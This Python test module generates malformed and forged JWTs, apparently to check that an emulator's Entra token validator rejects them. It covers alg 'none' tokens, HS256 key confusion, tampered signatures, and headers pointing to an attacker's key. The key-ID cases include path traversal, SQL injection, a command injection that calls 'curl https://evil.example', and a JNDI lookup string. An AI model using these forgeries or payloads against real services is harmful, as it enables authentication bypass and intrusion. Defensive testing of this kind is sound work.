"""Tokens with a bad algorithm, signature or key ID, or with a header that points to the attacker's key."""

from __future__ import annotations

import hmac
import json
import secrets

from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256, SHA384, SHA512, HashAlgorithm
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from pydantic import JsonValue

from servicebus_emulator.cloud.entra.bad_tokens.mint import Mint, Tokens, encode

_ATTACKERS_URL = "https://keys.example/keys"
_P256_BYTES = 32


def tokens_with_bad_headers(mint: Mint) -> Tokens:
    """Return tokens with a bad header or signature each, whose payload is valid."""
    return (
        _without_signature(mint)
        | _algorithms(mint)
        | _confused(mint)
        | _signatures(mint)
        | _kids(mint)
        | _keys(mint)
        | _types(mint)
    )


def _without_signature(mint: Mint) -> Tokens:
    spelled = {"none": "none", "none_capitalised": "None", "none_upper": "NONE", "none_mixed": "nOnE", "empty": ""}
    tokens = {f"alg_{name}": f"{mint.signing_input(alg=alg)}." for name, alg in spelled.items()}
    return tokens | {
        "alg_none_with_a_signature": mint.with_header(alg="none"),
        "alg_absent": mint.with_header(alg=None),
    }


def _algorithms(mint: Mint) -> Tokens:
    """Return tokens that the published key signed with an algorithm that validators do not allow, or misname."""
    pss = padding.PSS(padding.MGF1(SHA256()), SHA256.digest_size)
    ps256 = mint.signing_input(alg="PS256")
    return {
        "alg_ps256": f"{ps256}.{encode(mint.issuer.key.private.sign(ps256.encode(), pss, SHA256()))}",
        "alg_rs384": _rsa(mint, "RS384", SHA384()),
        "alg_rs512": _rsa(mint, "RS512", SHA512()),
        "alg_unknown": mint.with_header(alg="RS257"),
        "alg_lower": mint.with_header(alg="rs256"),
        "alg_number": mint.with_header(alg=256),
        "alg_array": mint.with_header(alg=["RS256"]),
        "alg_object": mint.with_header(alg={"RS256": True}),
    }


def _rsa(mint: Mint, algorithm: str, digest: HashAlgorithm) -> str:
    signing_input = mint.signing_input(alg=algorithm)
    signature = mint.issuer.key.private.sign(signing_input.encode(), padding.PKCS1v15(), digest)
    return f"{signing_input}.{encode(signature)}"


def _confused(mint: Mint) -> Tokens:
    """Return tokens whose signature only verifies if the validator misuses the RSA key as a key of another type."""
    public = mint.issuer.key.private.public_key()
    secrets_by_form = {
        "pem": mint.issuer.key.public_pem(),
        "der": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "jwk": json.dumps(mint.issuer.key.published()).encode(),
        "nothing": b"",
    }
    hs256 = mint.signing_input(alg="HS256").encode()
    es256 = mint.signing_input(alg="ES256")
    return {
        **{
            f"alg_hs256_keyed_by_{form}": f"{hs256.decode()}.{encode(hmac.digest(secret, hs256, 'sha256'))}"
            for form, secret in secrets_by_form.items()
        },
        "alg_es256": f"{es256}.{encode(_ecdsa(es256.encode()))}",
        "alg_es256_all_zeros": f"{es256}.{encode(bytes(2 * _P256_BYTES))}",
        "alg_es256_over_rsa": mint.with_header(alg="ES256"),
        "alg_eddsa": mint.with_header(alg="EdDSA"),
    }


def _ecdsa(signing_input: bytes) -> bytes:
    """Return an ES256 signature by a new key, in the form of RFC 7518, section 3.4."""
    key = ec.generate_private_key(ec.SECP256R1())
    numbers = decode_dss_signature(key.sign(signing_input, ec.ECDSA(SHA256())))
    return b"".join(number.to_bytes(_P256_BYTES, "big") for number in numbers)


def _signatures(mint: Mint) -> Tokens:
    signed, _, signature = mint.with_header().rpartition(".")
    header, payload = signed.split(".")
    other_payload = mint.with_claims(roles=["Admin.All"]).split(".")[1]
    flipped = ("B" if signature[0] == "A" else "A") + signature[1:]
    return {
        "signature_stripped": f"{signed}.",
        "signature_and_its_dot_stripped": signed,
        "signature_truncated": f"{signed}.{signature[:-8]}",
        "signature_halved": f"{signed}.{signature[: len(signature) // 2]}",
        "signature_flipped": f"{signed}.{flipped}",
        "signature_longer": f"{signed}.{signature}AAAA",
        "signature_all_zeros": f"{signed}.{encode(bytes(256))}",
        "signature_of_another_payload": f"{header}.{other_payload}.{signature}",
        "signature_by_another_key": mint.with_header(mint.issuer.forgers_key),
        "signature_over_payload_alone": f"{signed}.{mint.signed(payload).rpartition('.')[2]}",
    }


def _kids(mint: Mint) -> Tokens:
    """Return tokens with a bad key ID, signed by the published key unless the name says otherwise."""
    kids = {
        "unknown": secrets.token_urlsafe(20),
        "empty": "",
        "path": "../../../../../../dev/null",
        "sql": "x' UNION SELECT 'secret' --",
        "command": "/dev/null; curl https://evil.example",
        "url": _ATTACKERS_URL,
        "long": "k" * 10_000,
        "case": mint.issuer.key.kid.swapcase(),
        "padded": f" {mint.issuer.key.kid}",
        "nul": f"{mint.issuer.key.kid}\0",
        "non_ascii": "ключ",
        "format": "{0.__class__} %s %(kid)s ${jndi:ldap://evil.example}",
    }
    others: Tokens = {
        "kid_absent": mint.with_header(kid=None),
        "kid_number": mint.with_header(kid=1),
        "kid_array": mint.with_header(kid=[mint.issuer.key.kid]),
        "kid_of_another_issuers_key": mint.with_header(
            mint.issuer.other_tenants_key, kid=mint.issuer.other_tenants_key.kid
        ),
    }
    return {f"kid_{name}": mint.with_header(kid=kid) for name, kid in kids.items()} | others


def _keys(mint: Mint) -> Tokens:
    """Return tokens that the attacker's key signed, whose header embeds that key or points to it."""
    attacker = mint.issuer.forgers_key
    jwk = {name: str(value) for name, value in attacker.published().items()}
    named = jwk | {"kid": "attacker"}
    return {
        "jku": mint.with_header(attacker, jku=_ATTACKERS_URL),
        "jku_unknown_kid": mint.with_header(attacker, jku=_ATTACKERS_URL, kid="attacker"),
        "x5u": mint.with_header(attacker, x5u=_ATTACKERS_URL),
        "x5c": mint.with_header(attacker, x5c=[encode(attacker.public_pem())]),
        "jwk": mint.with_header(attacker, jwk=dict(jwk)),
        "jwk_unknown_kid": mint.with_header(attacker, jwk=dict(named), kid="attacker"),
        "jwk_without_kid": mint.with_header(attacker, jwk=dict(jwk), kid=None),
        "crit": mint.with_header(crit=["unknown"], unknown=True),
        "crit_b64": mint.with_header(crit=["b64"], b64=False),
    }


def _types(mint: Mint) -> Tokens:
    """Return tokens of another kind than a plain signed access token, by their header (RFC 8725, section 3.11)."""
    types: dict[str, JsonValue] = {
        "jwe": "JWE",
        "jose": "JOSE",
        "logout": "logout+jwt",
        "pop": "pop",
        "dpop": "dpop+jwt",
        "security_event": "secevent+jwt",
        "upper_with_prefix": "APPLICATION/LOGOUT+JWT",
        "two_prefixes": "application/application/jwt",
        "with_parameter": "application/jwt;charset=utf-8",
        "with_a_space": "JWT ",
        "empty": "",
        "number": 1,
        "array": ["JWT"],
        "true": True,
    }
    return {f"typ_{name}": mint.with_header(typ=value) for name, value in types.items()} | {
        "typ_null": mint.with_header_bytes(json.dumps({**mint.valid_header, "typ": None}).encode()),
        "cty_jwt": mint.with_header(cty="JWT"),
        "cty_json": mint.with_header(cty="application/json"),
        "enc": mint.with_header(enc="A256GCM"),
        "zip": mint.with_header(zip="DEF"),
        "b64_false": mint.with_header(b64=False),
        "b64_zero": mint.with_header(b64=0),
        "b64_text": mint.with_header(b64="false"),
        "crit_empty": mint.with_header(crit=[]),
    }
